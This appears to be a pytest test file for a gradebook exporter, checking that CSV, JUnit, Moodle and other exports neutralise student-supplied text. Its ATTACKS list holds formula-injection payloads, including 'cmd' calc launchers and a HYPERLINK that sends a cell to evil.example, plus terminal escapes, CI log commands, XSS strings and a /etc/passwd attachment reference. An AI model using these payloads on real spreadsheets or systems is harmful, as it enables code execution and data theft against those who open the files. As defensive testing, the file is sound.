"""Attacks on what `gradekit export` writes and says, and on whoever opens it: students choose their names, the names of
their files, their answers, and much of what messages quote."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest

from class_book import attempt_of, command, file_of, given, item, make_book
from gradekit.exporting.cells import original
from gradekit.gradebook.book import open_book
from gradekit.gradebook.marks import marks
from gradekit.gradebook.records import Item, Received, Student
from helpers import Ran

COMPUTED = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# What has been used against people who open other people's tables (owasp.org, CSV Injection), and what hides.
ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "a;=1+1;b",
    "a,=1+1,b",
    "a\t=1+1",
    "a\n=1+1\nb",
    'a","=1+1","b',
    'a";"=1+1";"b',
    "a'=1+1",
    "'=1+1",
    "a|=1+1",
    "x\u2028=1+1\u2029y\x85=2",
    "\x1b]0;title\x07\x1b[31mred",
    "::error file=x::y",
    "##vso[task.complete]",
    "]]><failure>",
    "<script>alert(1)</script>",
    "&amp;&#61;1",
    "[[ATTACHMENT|/etc/passwd]]",
    "Ann\r\n999,Eve,100",
    "שלום \u200f=1",
    '👩‍🔬 Ann, "B" O\'Neil',
    "\ud83d",
    "⟨U+001B⟩",
    "[link](javascript:alert(1))",
    "x" * 40_000,
]


def storable(text: str) -> str:
    """As a gradebook keeps text."""
    return text.encode("utf-8", "replace").decode()


STORED = list(dict.fromkeys(map(storable, ATTACKS)))


def hostile(text: str) -> list[Item]:
    """A marking in which the student has chosen every text."""
    failed = item("min_rank", 0, 6, message=text, mistake=text, status="error")
    return [failed, item("tradeoff", None, 4, answer=text)]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The gradebook of a class in which everybody attacks, by name, address and answer."""
    made = tmp_path_factory.mktemp("hostile")
    students = [Student(f"{n}", text, text) for n, text in enumerate(STORED, start=100)]
    with make_book(made / "book.db", {each: {"ch1-svd": hostile(each.name)} for each in students}) as book:
        for each in students[::2]:
            file = file_of(each, "ch1-svd")
            book.add_events([given(file, "min_rank", 1, id=f"e{each.id}", reason=each.name, marker=each.name)])
    return made


def export(folder: Path, to: str, *more: str) -> tuple[Ran, bytes]:
    """What `gradekit export` says and writes."""
    ran = command(["export", "book.db", "--to", to, "--out", f"out.{to}", "--force", *more], folder)
    return ran, (folder / f"out.{to}").read_bytes()


def split(text: str, delimiter: str) -> list[str]:
    """The cells of a text, as a program reads them that splits at that sign."""
    csv.field_size_limit(1 << 24)
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def computed(text: str) -> list[str]:
    """The cells that a spreadsheet would compute, whatever sign it splits at, with and without respect for quotes."""
    cells = [cell for delimiter in ",;\t|" for cell in split(text, delimiter)]
    cells += re.split(r"[,;\t|\r\n]", text)
    return [cell for cell in cells if cell.strip(' "\t\r\n').startswith(COMPUTED)]


@pytest.mark.parametrize("options", [("csv",), ("csv", "--partial"), ("sheet",), ("sheet", "--all")])
@pytest.mark.parametrize("delimiter", ["comma", "semicolon"])
def test_no_table_computes_anything(folder: Path, options: tuple[str, ...], delimiter: str) -> None:
    ran, content = export(folder, *options, "--delimiter", delimiter)
    assert ran.code == 0
    text = content.decode("utf-8-sig")
    assert len(split(text, "," if delimiter == "comma" else ";")) > 7 * len(STORED)
    assert computed(text) == []
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]", text)
    assert text.count("\r") == text.count("\r\n")


@pytest.mark.parametrize("cell", ["=1", ' "=1"', "a;=1", "x\t+1", "a\n@x"])
def test_a_formula_would_be_seen(cell: str) -> None:
    assert computed(f'"a","{cell}"\r\n') != []


def test_every_text_comes_back_exactly(folder: Path) -> None:
    _, content = export(folder, "csv")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert [(original(row["name"]), original(row["email"])) for row in rows] == [(text, text) for text in STORED]
    _, content = export(folder, "sheet")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    answers = {int(row["student"]): original(row["answer"]) + original(row["answer 2"]) for row in rows}
    assert answers == dict(enumerate(STORED, start=100))


def test_a_sheet_full_of_attacks_is_read_back(folder: Path, tmp_path: Path) -> None:
    _, content = export(folder, "sheet")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    (tmp_path / "book.db").write_bytes((folder / "book.db").read_bytes())
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, list(rows[0]), delimiter=";")
    writer.writeheader()
    writer.writerows({**row, "points": "2,5", "marker": "Kim"} for row in rows)
    (tmp_path / "sheet.csv").write_bytes(text.getvalue().encode("cp1252", "replace"))
    ran = command(["marks", "book.db", "sheet.csv"], tmp_path)
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.startswith(f"{len(STORED)} marks added.\n")
    assert ran.out.count("\n") == 1 + len(STORED)
    with open_book(tmp_path / "book.db") as book:
        assert {mark.parts[1].score for mark in marks(book)} == {Decimal("2.5")}


@pytest.mark.parametrize("options", [("csv",), ("junit",), ("sheet", "--all")])
def test_nothing_acts_in_a_terminal_or_a_log(folder: Path, options: tuple[str, ...]) -> None:
    ran, _ = export(folder, *options)
    assert ran.code == 0
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b\u2028\u2029\u202a-\u202e\ufeff]", ran.out + ran.err)
    assert not re.search(r"(?m)^\s*::|##(?:vso)?\[", ran.out)


def test_what_is_refused_is_said_on_lines_of_its_own(folder: Path) -> None:
    (folder / "canvas.csv").write_text("Student,ID,Section,A (1)\n    Points Possible,,,10\n")
    ran = command(["export", "book.db", "--to", "canvas", "--template", "canvas.csv", "--out", "x.csv"], folder)
    assert (ran.code, ran.out) == (2, "")
    assert len(ran.err.splitlines()) == 1 + len(STORED)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]", ran.err)
    assert not (folder / "x.csv").exists()


def test_junit_is_a_document_with_one_case_a_student_and_part(folder: Path) -> None:
    _, content = export(folder, "junit")
    root = ET.fromstring(content)
    cases = list(root.iter("testcase"))
    assert len({case.get("name") for case in cases}) == len(cases) == 2 * len(STORED)
    assert {tag.tag for tag in root.iter()} == {"testsuites", "testsuite", "testcase", "failure", "error", "skipped"}
    text = content.decode()
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u202e\ufffe\uffff]", text)
    assert "[[ATTACHMENT|" not in text
    assert "[ [ATTACHMENT|/etc/passwd]]" in text


class Page(HTMLParser):
    """The text that a browser shows, and the tags."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data


def test_comments_are_plain_text_in_moodle_and_in_a_spreadsheet(folder: Path) -> None:
    rows = [f"Participant {n},,,10.00,Yes,-," for n in range(100, 100 + len(STORED))]
    head = "Identifier,Full name,Grade,Maximum Grade,Grade can be changed,Last modified (grade),Feedback comments"
    (folder / "moodle.csv").write_text("\n".join([head, *rows, ""]))
    ran, content = export(folder, "moodle", "--template", "moodle.csv", "--partial")
    assert ran.code == 0
    text = content.decode()
    found = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert [row["Identifier"] for row in found] == [row.split(",")[0] for row in rows]
    comments = [row["Feedback comments"] for row in found]
    assert [cell for comment in comments for cell in computed('"' + comment.replace('"', '""') + '"')] == []
    for comment, said in zip(comments, STORED, strict=True):
        page = Page()
        page.feed(comment)
        assert set(page.tags) == {"br"}
        assert page.text.startswith("Marked by gradekit.ch1-svd: ")
        assert len(page.text) < 500
        assert ("alert(1)" in page.text) == ("alert(1)" in said)
    page = Page()
    page.feed(comments[STORED.index("a;=1+1;b")])
    assert page.text == "Marked by gradekit.ch1-svd: 1 of 10, 4 openmin_rank: 1. a;=1+1;btradeoff: open"


def test_a_teachers_own_cells_stay_even_where_students_wrote_them(folder: Path) -> None:
    """What Moodle exported is its own: a cell of a student's there is kept as it is, and never split."""
    rows = "".join(f'"Participant {n}",,"=1+1,\\"";x",,10,Yes\r\n' for n in range(100, 100 + len(STORED)))
    before = f"Identifier,Full name,Online text,Grade,Maximum Grade,Grade can be changed\r\n{rows}"
    (folder / "moodle.csv").write_bytes(before.encode())
    _, content = export(folder, "moodle", "--template", "moodle.csv", "--partial")
    assert re.sub(r'";x",\d,', '";x",,', content.decode()) == before


def php(text: str) -> str:
    """A cell as PHP's `fputcsv` writes it: a quote after a backslash is not doubled."""
    return '"' + re.sub(r'(?<!\\)"', '""', text) + '"'


MADE_UP = [
    'x\\",-,\nParticipant 1,Bob,,10,Yes,y\\",',
    'x\\",-\nParticipant 2,Ann,,10,Yes,z',
    'x\\",-\nParticipant 2,Ann,,10,Yes,"z',
    'x\\",-\nParticipant 2,Ann,,10,Yes,',
    'x\\",-\n',
    'G\\"odel, "quoted", \\\\" and \\',
    '","","',
    '\\"\\"\\"',
]


@pytest.mark.parametrize("text", MADE_UP)
def test_no_text_typed_into_moodle_makes_up_cells_or_rows(tmp_path: Path, text: str) -> None:
    ann, bob = Student("1", "Ann"), Student("2", "Bob")
    work = {each: {"x": [item("a", int(each.id) + 4, 10)]} for each in (ann, bob)}
    make_book(tmp_path / "book.db", work).connection.close()
    head = "Identifier,Name,Grade,Maximum,Change,Text,Modified\n"
    before = f'{head}"Participant 1",Ann,,10,Yes,{php(text)},-\n"Participant 2",Bob,,10,Yes,,-\n'
    (tmp_path / "moodle.csv").write_bytes(before.encode())
    ran = command(
        ["export", "book.db", "--to", "moodle", "--template", "moodle.csv", "--out", "x.csv", "--column", "Grade"],
        tmp_path,
    )
    assert (ran.code, ran.err) == (0, "")
    expected = before.replace('Ann,,10,Yes,"', 'Ann,5,10,Yes,"', 1).replace('2",Bob,,', '2",Bob,6,')
    assert (tmp_path / "x.csv").read_bytes().decode() == expected


def test_jsonl_carries_everything_and_is_harmless(folder: Path) -> None:
    _, content = export(folder, "jsonl")
    assert re.fullmatch(b"[\x20-\x7e\n]*", content)
    told = [json.loads(line) for line in content.splitlines()]
    assert [row["name"] for row in told if row.get("table") == "students"] == STORED
    assert b"##vso[" in content  # a backup says what was said; it is no log


def test_equal_names_are_different_students(tmp_path: Path) -> None:
    twins = [Student("7", "Ann Lee"), Student("8", "Ann Lee"), Student("9", "Ann\u00a0Lee")]
    work = {each: {"ch1-svd": [item("min_rank", int(each.id) - 5, 6)]} for each in twins}
    make_book(tmp_path / "book.db", work).connection.close()
    _, content = export(tmp_path, "csv")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [(row["student"], row["total [6]"]) for row in rows] == [("7", "2"), ("8", "3"), ("9", "4")]
    template = "OrgDefinedId,Last Name,First Name,A Points Grade <Numeric MaxPoints:6>,End-of-Line Indicator\n"
    template += "#8,Lee,Ann,,#\n#9,Lee,Ann,,#\n#7,Lee,Ann,,#\n"
    (tmp_path / "b.csv").write_text(template)
    _, content = export(tmp_path, "brightspace", "--template", "b.csv")
    assert content.decode().splitlines()[1:] == ["#8,Lee,Ann,3,#", "#9,Lee,Ann,4,#", "#7,Lee,Ann,2,#"]
    ran, _ = export(tmp_path, "brightspace", "--template", "b.csv", "--match", "name")
    assert ran.err == "gradekit: b.csv: Ann Lee (7) would get several rows: match by id.\n"


def test_a_student_cannot_take_the_place_of_another(tmp_path: Path) -> None:
    """Ids are compared without invisible signs: what looks like another's id is refused, not guessed."""
    ann, eve = Student("101", "Ann"), Student("101\u200b", "Eve")
    work = {ann: {"ch1-svd": [item("min_rank", 6, 6)]}, eve: {"ch1-svd": [item("min_rank", 0, 6)]}}
    make_book(tmp_path / "book.db", work).connection.close()
    (tmp_path / "b.csv").write_text("Username,A Points Grade <Numeric MaxPoints:6>,End-of-Line Indicator\n#101,,#\n")
    ran = command(["export", "book.db", "--to", "brightspace", "--template", "b.csv", "--out", "x.csv"], tmp_path)
    said = "b.csv: Ann (101) and Eve (101\\u200b) both fit line 2 by Username. Nothing was written."
    assert ran == (2, "", f"gradekit: {said}\n")


def test_nobodys_name_makes_up_lines_of_what_is_said(tmp_path: Path) -> None:
    forged = Student("1", "Ann\n  Bob (2): fine")
    make_book(tmp_path / "book.db", {forged: {"x": [item("a", None, 1, answer="y")]}}).connection.close()
    header = "Username,Last Name,First Name,A Points Grade <Numeric MaxPoints:6>,End-of-Line Indicator\n"
    (tmp_path / "b.csv").write_text(header + '#1,"Eve\n  Bob (2): fine",E,,#\n')
    ran = command(["export", "book.db", "--to", "brightspace", "--template", "b.csv", "--out", "x.csv"], tmp_path)
    assert ran.err.splitlines()[1:] == ["  Ann\\n  Bob (2): fine (1): E Eve\\n  Bob (2): fine"]
    command(["export", "book.db", "--to", "sheet", "--out", "s.csv"], tmp_path)
    sheet = (tmp_path / "s.csv").read_text("utf-8-sig").replace(",x,", ',x,"z\n  row 9: fine",')
    (tmp_path / "s.csv").write_text(re.sub(r"x,a,1,1,y,,", 'x,a,1,"1\n  row 9: fine",y,1,', sheet))
    ran = command(["marks", "book.db", "s.csv", "--marker", "K"], tmp_path)
    assert [line[:8] for line in ran.err.splitlines()[1:]] == ["  row 2:"]


def test_an_answer_cannot_join_the_group_of_another_part(tmp_path: Path) -> None:
    """Groups are made of parts and texts, not of what looks like both."""
    ann, bob = Student("1", "A"), Student("2", "B")
    parts = [item("a", None, 1, answer="same"), item("b", None, 1, answer="same")]
    with make_book(tmp_path / "book.db", {ann: {"x": parts}}) as book:
        book.begin(book.runs()[0]._replace(id="r2"), [bob], [Received(file_of(bob, "x"))])
        book.record(attempt_of(file_of(bob, "x"), [parts[0], item("b", None, 1, answer="SAME ")]))
    ran, content = export(tmp_path, "sheet")
    assert ran.out.startswith("4 rows, 2 groups of equal answers.\n")
    rows = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert [(row["part"], row["group"]) for row in rows] == [("a", "1"), ("a", "1"), ("b", "1"), ("b", "1")]
